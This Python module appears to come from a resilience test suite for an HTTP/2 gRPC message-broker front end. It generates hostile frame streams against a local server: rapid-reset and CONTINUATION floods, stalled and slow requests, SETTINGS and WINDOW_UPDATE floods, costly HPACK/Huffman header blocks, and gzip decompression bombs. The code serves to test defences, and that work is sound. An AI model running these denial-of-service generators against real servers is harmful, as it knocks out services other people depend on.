"""What attacks write: requests that do not go on, blocks that take long to read, frames."""

import gzip
from collections.abc import Callable, Iterable, Iterator
from itertools import chain, count, cycle, islice, repeat

from front.hostile import frames as f
from front.payloads import receive, send
from front.wire import frame as message
from front.wire import headers
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from apache.rocketmq.v2 import definition_pb2 as v2
from apache.rocketmq.v2 import service_pb2 as service
from popmq_common.units import KiB, MiB

Pieces = Iterable[bytes]
TOPIC = "attacked"
LARGE_TOPIC = "large"
POLL = message(receive(TOPIC, "attackers", poll_s=15))
SEND = message(send(TOPIC, b"x"))
ROUTE = message(
    service.QueryRouteRequest(
        topic=v2.Resource(name=TOPIC),
        endpoints=v2.Endpoints(
            scheme=v2.IPv4, addresses=[v2.Address(host="127.0.0.1", port=8_081)]
        ),
    ).SerializeToString()
)
LINES = f.block(headers("SendMessage"))[1:]
NOT_GRPC = f.block([(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "a")])
LONG = b"\0\x07\xff\xff\xff"
"""What the prefix of a long message says."""
LARGE = b"\0" + (10 * MiB).to_bytes(4, "big")
"""The same of one that servers with a bound of 16 MiB take."""
STREAMS = 1_024
"""That a connection may have."""
PIECE_BYTES = 64 * KiB
WINDOW = f.window_update(0, 1 << 30)


def gathered(pieces: Pieces) -> Iterator[bytes]:
    """Small pieces together."""
    held = bytearray()
    for piece in pieces:
        held += piece
        if len(held) >= PIECE_BYTES:
            yield bytes(held)
            held.clear()
    if held:
        yield bytes(held)


def ids(first: int = 1) -> Iterable[int]:
    return range(first, 1 << 31, 2)


def heads(stream_count: int, path: str = "SendMessage", then: bytes = b"") -> Pieces:
    """Requests that begin and do not go on; `then` is what came of their bodies."""
    for number in islice(ids(), stream_count):
        yield f.request_head(number, path)
        if then:
            yield f.frame(f.DATA, 0, number, then)


def requests(path: str, body: bytes, stream_count: int, first: int = 1) -> Pieces:
    return (f.request(number, path, body) for number in islice(ids(first), stream_count))


def held_up_streams() -> Pieces:
    """Answers that the windows of their streams hold up."""
    shut = f.settings([(f.INITIAL_WINDOW_SIZE, 0)])
    return chain([WINDOW, shut], requests("QueryRoute", ROUTE, STREAMS))


def held_up_connection() -> Pieces:
    """Answers that the window of the connection holds up, most of them."""
    return requests("QueryRoute", ROUTE, STREAMS)


# --- within the budgets: so many frames each time ---

A_TIME = 70
EVERY_S = 0.015
"""Half of the budget of a second: what lies in sockets while a busy machine lets the server wait
for a second comes together with what is sent then."""


def at_a_time(frames: Pieces, each: int = A_TIME) -> Iterator[bytes]:
    """`each` of them in a piece."""
    endless = iter(frames)
    while piece := b"".join(islice(endless, each)):
        yield piece


def windows_one_larger() -> Pieces:
    """Each lets a byte of each answer go."""
    return (f.settings([(f.INITIAL_WINDOW_SIZE, size)]) for size in count(1))


def long_settings() -> Pieces:
    """The same in frames that are as long as may be: each of their values changes all windows."""
    for size in count(1):
        yield f.settings([(f.INITIAL_WINDOW_SIZE, one) for one in [size, size - 1] * 31 + [size]])


def windows_byte_by_byte() -> Pieces:
    return (f.window_update(number, 1) for _ in count() for number in islice(ids(), STREAMS))


def all_kinds() -> Iterator[bytes]:
    """Frames that begin nothing, each kind for a while. Stream 1 is open, its request not whole."""
    piece = f.frame(f.DATA, 0, 1, b"x")
    kinds = [
        *(f.window_update(0, 1), f.frame(0x77, 0, 0), f.frame(f.PING, 0, 0, bytes(8))),
        *(f.frame(f.PRIORITY, 0, 3, bytes(5)), f.settings([]), f.settings([(3, 5)] * 64)),
        *(f.frame(f.DATA, f.PADDED, 1, b"\xff" + bytes(255)), piece, f.frame(f.DATA, 0, 1)),
    ]
    large = f.frame(0x77, 0, 0, bytes(60 * KiB))
    for kind in cycle(kinds):
        for _ in range(5):
            yield kind * A_TIME
        yield large


def begun_and_reset(first: int = 3) -> Pieces:
    for number in ids(first):
        yield f.request(number, "ReceiveMessage", POLL) + f.reset(number)


def reset_in_batches() -> Pieces:
    """As many polls as a connection may have, and then all of them taken back."""
    for first in count(1, 2 * STREAMS):
        yield from requests("ReceiveMessage", POLL, STREAMS, first)
        yield from (f.reset(number) for number in islice(ids(first), STREAMS))


def reset_late() -> Pieces:
    """As many polls as a connection may have, taken back when they are not young any more."""
    for first in count(1, 2 * STREAMS):
        yield b"".join(requests("ReceiveMessage", POLL, STREAMS, first))
        yield b"".join(f.reset(number) for number in islice(ids(first), STREAMS))


def slow_heads(path: str = "SendMessage", then: bytes = b"") -> Callable[[], Pieces]:
    """Requests that do not go on, some each time, so that also the refused ones are no flood."""
    return lambda: heads(1_000, path, then)


def malformed(first: int = 3) -> Pieces:
    return (f.header_frames(number, b"\x82") for number in ids(first))


def continued_byte_by_byte() -> Pieces:
    """A request's head of 8 KiB, a byte in each frame."""
    fields = LINES + b"\x00\x05x-own\x7f" + bytes((8_000 - 127 & 0x7F | 0x80, 8_000 - 127 >> 7))
    fields += bytes(b"x" * 8_000)
    for number in ids(3):
        yield f.frame(f.HEADERS, f.END_STREAM, number)
        for at in range(len(fields) - 1):
            yield f.frame(f.CONTINUATION, 0, number, fields[at : at + 1])
        yield f.frame(f.CONTINUATION, f.END_HEADERS, number, fields[-1:])


# --- requests whose heads take long to read ---

USUAL = 9
"""Blocks that a client begins with: they are read in another way than what comes later."""


def usual_calls() -> Pieces:
    return chain([WINDOW], requests("QueryRoute", ROUTE, USUAL))


def blocks(fields: Callable[[int], bytes], first: int = 2 * USUAL + 1) -> Callable[[], Pieces]:
    """A head each, which is all of a request."""
    return lambda: (f.header_frames(number, fields(number)) for number in ids(first))


FIVE_BITS = "012aceiost"
"""What Huffman's code has the shortest codes for; eight of them fill five bytes."""


def huffman(size_bytes: int) -> Callable[[int], bytes]:
    """What takes long to decode, and is another one each time; each byte stands for 1.6."""
    encoder = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH)
    rest = bytes(size_bytes // 5 * 5)

    def fields(number: int) -> bytes:
        different = "".join(FIVE_BITS[int(digit)] for digit in f"{number:08}")
        coded = encoder.encode(different.encode()) + rest
        return LINES + b"\x00\x05x-own" + f.huffman_text(coded)

    return fields


def many_fields(number: int) -> bytes:
    """With names that nobody knows, as many as 16 KiB have room for."""
    names = number.to_bytes(4, "big").hex().encode()
    return LINES + b"".join(
        b"\x00\x05x-%c%c%c\x00" % (*names[-2:], 97 + i % 26) for i in range(400)
    )


def few_fields(number: int) -> bytes:
    """The same in a short block."""
    names = number.to_bytes(4, "big").hex().encode()
    return LINES + b"".join(b"\x00\x05x-%c%c%c\x00" % (*names[-2:], 97 + i % 26) for i in range(50))


def named_again(number: int) -> bytes:
    """A large field goes into the table, and is named by one byte again and again."""
    if number == 1:
        return b"\x3f\xe1\x1f" + LINES + b"\x40" + f.text(b"x-big") + f.text(b"x" * 4_000)
    return LINES + b"\xbe" * 3


def calls_with_windows() -> Pieces:
    """Calls, and as many frames that begin nothing as they are worth."""
    return (one + f.window_update(0, 1) * 8 for one in requests("QueryRoute", ROUTE, 1 << 30))


# --- what takes memory ---


def packed(data: bytes) -> bytes:
    return message(gzip.compress(data, 1), compressed=1)


def packed_head(number: int, path: str) -> bytes:
    fields = f.block([*headers(path), ("grpc-encoding", "gzip")])
    return f.frame(f.HEADERS, f.END_HEADERS, number, fields)


def endless_messages() -> Pieces:
    """Unary calls whose bodies do not end: 1 MiB, packed, again and again."""
    for number in ids(3):
        body = f.frame(f.DATA, 0, number, packed(bytes(MiB)) * 10) * 10
        yield packed_head(number, "SendMessage") + body


def packed_requests(data: bytes, path: str = "SendMessage") -> Callable[[], Pieces]:
    """Large ones, of which little is sent."""

    def written() -> Pieces:
        one = packed(data)
        pieces = [one[at : at + 16_000] for at in range(0, len(one), 16_000)]
        for number in ids(3):
            begun = [f.frame(f.DATA, 0, number, piece) for piece in pieces[:-1]]
            ended = f.frame(f.DATA, f.END_STREAM, number, pieces[-1])
            yield b"".join((packed_head(number, path), *begun, ended))

    return written


def unfinished_requests() -> Pieces:
    """As much of them as the windows let in."""
    for number in islice(ids(3), 40):
        yield f.request_head(number, "SendMessage")
        yield f.frame(f.DATA, 0, number, LARGE)
        yield from repeat(f.frame(f.DATA, 0, number, bytes(16_000)), 25)


def polls_for_large(stream_count: int) -> Pieces:
    poll = message(receive(LARGE_TOPIC, "attackers", poll_s=15))
    return requests("ReceiveMessage", poll, stream_count)
